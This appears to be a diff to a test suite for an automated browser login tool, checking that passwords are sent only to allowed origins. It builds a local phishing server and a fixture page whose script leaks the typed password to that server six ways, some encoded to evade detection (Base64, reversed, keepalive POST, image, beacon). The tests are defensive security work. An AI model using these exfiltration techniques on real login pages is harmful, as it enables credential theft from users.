@@ -26,10 +26,13 @@ interface Loopback {
   server: Server;
   /** Every request: method, URL and body. */
   got: string[];
+  /** TCP connections accepted: a request that left the browser needs one, even one not read in full. */
+  connections: number;
 }
 
 async function serve(handler: (req: IncomingMessage, body: string, res: ServerResponse) => void): Promise<Loopback> {
   const got: string[] = [];
+  let connections = 0;
   const server = createServer((req, res) => {
     let body = '';
     req.setEncoding('utf8').on('data', (d: string) => (body += d));
@@ -39,7 +42,9 @@ async function serve(handler: (req: IncomingMessage, body: string, res: ServerRe
     });
   });
   await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
-  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server, got };
+  const loopback: Loopback = { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server, got, connections };
+  server.on('connection', () => loopback.connections++);
+  return loopback;
 }
 
 const page = (res: ServerResponse, html: string) => {
@@ -56,11 +61,13 @@ let authorize: (res: ServerResponse) => void;
 
 beforeAll(async () => {
   evil = await serve((req, _body, res) => {
-    // A phishing page that takes the password and then plays along, back to the redirect_uri with a code.
-    if (req.method === 'POST') {
+    // A phishing page that takes the password and then plays along, back to the redirect_uri with a code;
+    // anything else it is sent gets an empty answer.
+    if (req.method === 'POST' && req.url === '/steal') {
       res.writeHead(302, { location: `${REDIRECT_URI}?code=EVIL-CODE-123456&state=${STATE}` });
       res.end();
-    } else page(res, passwordForm('/steal'));
+    } else if (req.url === '/login') page(res, passwordForm('/steal'));
+    else res.writeHead(204).end();
   });
   idp = await serve((req, _body, res) => {
     if (req.url?.startsWith('/authorize')) authorize(res);
@@ -73,9 +80,19 @@ afterAll(async () => {
 });
 
 afterEach(() => {
-  evil.got.length = 0;
-  idp.got.length = 0;
+  for (const s of [evil, idp]) {
+    s.got.length = 0;
+    s.connections = 0;
+  }
 });
+
+/**
+ * After the login returned (its browser closed: nothing more can leave it), lets the server accept any
+ * connection already made (the kernel holds it until the event loop turns) and read what came on it.
+ */
+async function settled(): Promise<void> {
+  for (let i = 0; i < 5; i++) await new Promise((r) => setImmediate(r));
+}
 
 const input = () => ({ authorizationUrl: `${idp.url}/authorize?client_id=c&state=${STATE}`, redirectUri: REDIRECT_URI, state: STATE });
 const redirectToEvil = (res: ServerResponse) => {
@@ -124,7 +141,8 @@ describe('form login: credentials only to allowed origins', () => {
   });
 });
 
-describe.skipIf(!existsSync(DEFAULT_CHROMIUM))('browser login: credentials only to allowed origins', { timeout: 30_000 }, () => {
+// Generous: a browser may take long to start on a loaded machine (login.launchTimeoutMs, 60 s by default).
+describe.skipIf(!existsSync(DEFAULT_CHROMIUM))('browser login: credentials only to allowed origins', { timeout: 120_000 }, () => {
   const steps = [{ fill: '#username', value: USERNAME }, { fill: '#password', value: PASSWORD }, { click: '#go' }];
 
   it('stops at a redirect from /authorize to another origin; that origin gets no request', async () => {
@@ -143,15 +161,49 @@ describe.skipIf(!existsSync(DEFAULT_CHROMIUM))('browser login: credentials only 
     expect(evil.got).toEqual([]);
   });
 
-  it('blocks a script sending a filled-in value to another origin', async () => {
-    authorize = (res) =>
-      page(
-        res,
-        `<input id="username"><input type="password" id="password"><button id="go" onclick="fetch('${evil.url}/x?p=' + encodeURIComponent(btoa(document.getElementById('password').value)), {mode: 'no-cors'}); fetch('${evil.url}/y?p=' + encodeURIComponent(document.getElementById('password').value), {mode: 'no-cors'})">Sign in</button>`,
-      );
+  /**
+   * A page whose button sends the password to the hostile origin six ways at once (Base64 and raw in a
+   * query, a keepalive POST and a beacon that outlive the page, an image, and reversed: an encoding no
+   * search can know), then, once all are sent, goes to the redirect_uri with a code.
+   */
+  const exfiltrating = (res: ServerResponse) =>
+    page(
+      res,
+      `<input id="username"><input type="password" id="password"><button id="go">Sign in</button>
+<script>
+  document.getElementById('go').onclick = () => {
+    const p = document.getElementById('password').value;
+    const to = (path) => '${evil.url}' + path;
+    const sent = [
+      fetch(to('/x?p=' + encodeURIComponent(btoa(p))), { mode: 'no-cors' }),
+      fetch(to('/y?p=' + encodeURIComponent(p)), { mode: 'no-cors' }),
+      fetch(to('/k'), { method: 'POST', body: p, mode: 'no-cors', keepalive: true }),
+      fetch(to('/r?p=' + encodeURIComponent([...p].reverse().join(''))), { mode: 'no-cors' }),
+      new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = to('/i?p=' + encodeURIComponent(p)); }),
+    ];
+    navigator.sendBeacon(to('/b'), p);
+    Promise.allSettled(sent).then(() => { location.href = '${REDIRECT_URI}?code=PAGE-CODE-123456&state=${STATE}'; });
+  };
+</script>`,
+    );
+
+  it('blocks every request of a script sending a filled-in value to another origin, even after the login ends', async () => {
+    authorize = exfiltrating;
     const e = await refusal(browserLogin(http(), input(), { steps, issuer: idp.url, timeoutMs: 15_000 }));
     expect(e.code).toBe('LOGIN_FOREIGN_ORIGIN');
+    expect(e.message).toContain(`send a request to ${evil.url}`);
+    await settled();
     expect(evil.got).toEqual([]);
+    expect(evil.connections).toBe(0);
+  });
+
+  it('(control) the same page, with the hostile origin allowed, does send all six', async () => {
+    authorize = exfiltrating;
+    const result = await browserLogin(http(), input(), { steps, issuer: idp.url, allowedOrigins: [evil.url], timeoutMs: 15_000 });
+    expect(result.code).toBe('PAGE-CODE-123456');
+    // The beacon is not awaited by the page: give the hostile server a bounded moment for it.
+    for (let waited = 0; evil.got.length < 6 && waited < 5_000; waited += 50) await new Promise((r) => setTimeout(r, 50));
+    expect(evil.got.map((r) => r.split(/[?\n]/)[0]).sort()).toEqual(['GET /i', 'GET /r', 'GET /x', 'GET /y', 'POST /b', 'POST /k']);
   });
 
   it('goes to an origin the target lists in login.allowedOrigins', async () => {
